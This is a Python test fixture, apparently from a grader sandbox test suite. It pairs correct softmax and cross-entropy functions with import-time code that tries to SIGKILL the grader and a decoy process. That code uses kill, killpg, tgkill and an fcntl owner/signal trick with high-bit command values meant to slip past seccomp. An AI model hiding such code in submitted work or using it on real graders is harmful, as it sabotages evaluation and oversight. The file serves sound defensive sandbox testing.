"""Has signals sent for it: SIGKILL to the grader and to any process on the host, by the kernel.

Attack: where neither a PID namespace nor Landlock's signal scope (Linux 6.12) keeps a worker's
signals home, and the worker shares the grader's user (a root grader without --run-as), the seccomp
filter is all that stands between it and every process of that user. At import it sends SIGKILL to
its parent (the grader, which started it) and to the decoy (a process of the grader's user the test
passes in, as a student could find one) with kill, killpg and tgkill; then it makes the kernel send
the signal for it: F_SETOWN names the target as owner of its own pipe, F_SETSIG picks SIGKILL,
O_ASYNC turns it on, and one write fires it. Each fcntl command is also tried with bit 32 set,
which the kernel ignores (it reads a 32-bit command), and F_SETOWN_EX in place of F_SETOWN. It
prints what each step did. The functions are the reference.

A sound grader: every step refused, the grader and the decoy alive, and a report with full marks.
"""
import ctypes
import fcntl
import math
import os
import signal
import struct

DECOY = int("__DECOY__")
F_SETOWN, F_SETSIG, F_SETOWN_EX = 8, 10, 15
F_OWNER_PID = 1
HIGH = 1 << 32


def softmax(logits):
    top = max(logits)  # shift by the max so exp never overflows
    exps = [math.exp(z - top) for z in logits]
    total = sum(exps)
    return [e / total for e in exps]


def cross_entropy_loss(logits, true_id):
    top = max(logits)
    log_sum_exp = top + math.log(sum(math.exp(z - top) for z in logits))
    return log_sum_exp - logits[true_id]


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return sum(losses) / len(losses)


def perplexity(loss):
    return math.exp(loss)


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    grad[true_id] -= 1.0
    return grad


_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_FCNTL = {"x86_64": 72, "aarch64": 25}[os.uname().machine]
_TGKILL = {"x86_64": 234, "aarch64": 131}[os.uname().machine]


def _try(name, act):
    try:
        act()
        print(f"{name}: allowed")
    except Exception as refusal:  # noqa: BLE001 - any refusal is the point
        print(f"{name}: refused {type(refusal).__name__}")


def _raw_fcntl(fd, command, argument):
    """fcntl through the C library's syscall, so that the command's upper bits reach the kernel."""
    done = _libc.syscall(ctypes.c_long(_FCNTL), ctypes.c_long(fd), ctypes.c_ulong(command), ctypes.c_ulong(argument))
    if done < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def _tgkill(pid):
    if _libc.syscall(ctypes.c_long(_TGKILL), ctypes.c_long(pid), ctypes.c_long(pid), ctypes.c_long(9)) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def _by_proxy(name, target):
    """SIGKILL for `target`, sent by the kernel when its own pipe is written."""
    read, write = os.pipe()
    owner = ctypes.create_string_buffer(struct.pack("ii", F_OWNER_PID, target))
    _try(f"{name} F_SETOWN", lambda: fcntl.fcntl(read, F_SETOWN, target))
    _try(f"{name} F_SETOWN high", lambda: _raw_fcntl(read, F_SETOWN | HIGH, target))
    _try(f"{name} F_SETOWN_EX high", lambda: _raw_fcntl(read, F_SETOWN_EX | HIGH, ctypes.addressof(owner)))
    _try(f"{name} F_SETSIG", lambda: fcntl.fcntl(read, F_SETSIG, signal.SIGKILL))
    _try(f"{name} F_SETSIG high", lambda: _raw_fcntl(read, F_SETSIG | HIGH, signal.SIGKILL))
    fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(write, b"x")  # the signal, had an owner been named


for _name, _target in (("grader", os.getppid()), ("decoy", DECOY)):
    _try(f"{_name} kill", lambda: os.kill(_target, signal.SIGKILL))
    _try(f"{_name} killpg", lambda: os.killpg(os.getpgid(_target), signal.SIGKILL))
    _try(f"{_name} tgkill", lambda: _tgkill(_target))
    _by_proxy(_name, _target)
